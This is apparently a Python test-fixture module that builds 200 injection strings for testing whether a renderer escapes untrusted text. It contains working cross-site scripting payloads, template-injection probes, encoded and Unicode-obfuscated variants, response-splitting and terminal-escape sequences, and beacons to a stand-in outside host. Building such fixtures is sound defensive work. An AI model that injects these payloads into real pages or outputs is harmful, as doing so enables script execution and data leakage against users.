"""Two hundred texts that try to become something else on a page."""

from __future__ import annotations

OUTSIDE = "http://outside.test/hit"
"""Nothing may ask for this."""

_RUN = "alert(1)"

_MARKUP = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={OUTSIDE}></script>",
    f"<script\x0ctype=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="{OUTSIDE}">',
    f"<img/src=x/onerror={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data={OUTSIDE}></object>",
    f"<embed src={OUTSIDE}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href=javascript:{_RUN}>click</a>",
    f'<a href="{OUTSIDE}" ping="{OUTSIDE}">click</a>',
    f"<form action={OUTSIDE}><button autofocus>Approve</button></form>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}>",
    f"<link rel=prefetch href={OUTSIDE}>",
    f"<style>@import '{OUTSIDE}';</style>",
    f"<style>*{{background:url({OUTSIDE})}}</style>",
    f"<div style='background:url({OUTSIDE})'>x</div>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<x onclick={_RUN} tabindex=1 id=x>click</x>",
    f"<portal src={OUTSIDE}>",
]
_OUT_OF = ['"', "'", "-->", "</textarea>", "</title>", "</option></select>", "</script>", "]]>"]
_OTHER = [
    "{{ 7*7 }}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"[click]({OUTSIDE})",
    f"![image]({OUTSIDE})",
    "[click](javascript:alert(1))",
    f"<{OUTSIDE}>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u202e>tpircs<)1(trela>tpircs/<",
    "\u2066<b>\u2069",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[1;1H",
    "<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufeff<script>alert(1)</script>",
    "a\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h",
    "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script>",
    "\n\ndata: <script>alert(1)</script>\n\nevent: reset\n\n",
    '"}]}</script><script>alert(1)</script>',
    "Z\u0351\u036b\u0343a\u0325\u0353l\u034f\u031fg\u0489o" * 20,
    "\U000e0041\U000e0042\U000e007f",
    "W" * 3_000,
    "(" * 2_000,
]


def payloads() -> list[str]:
    """All different."""
    broken_out = [f"{end}{markup}" for end in _OUT_OF for markup in _MARKUP[:28:4]]
    events = ("onmouseover", "onfocus autofocus", "onanimationstart", "style", "formaction")
    attributes = [f"{quote} {event}={_RUN} {quote}" for quote in "\"'` " for event in events]
    nested = [f"<b>{markup}</b>\n{markup.upper()}" for markup in _MARKUP]
    found = dict.fromkeys([*_MARKUP, *_OTHER, *broken_out, *attributes, *nested])
    more = [f"{n}: {markup} {OUTSIDE}" for n, markup in enumerate(_MARKUP)]
    return [*found, *more][:200]


def bundles(limit: int) -> list[str]:
    """All of them, joined by line feeds into texts of at most `limit` bytes."""
    found: list[str] = [""]
    for payload in payloads():
        line = payload.encode()[: limit - 1].decode(errors="ignore") + "\n"
        if len((found[-1] + line).encode()) > limit:
            found.append("")
        found[-1] += line
    return found
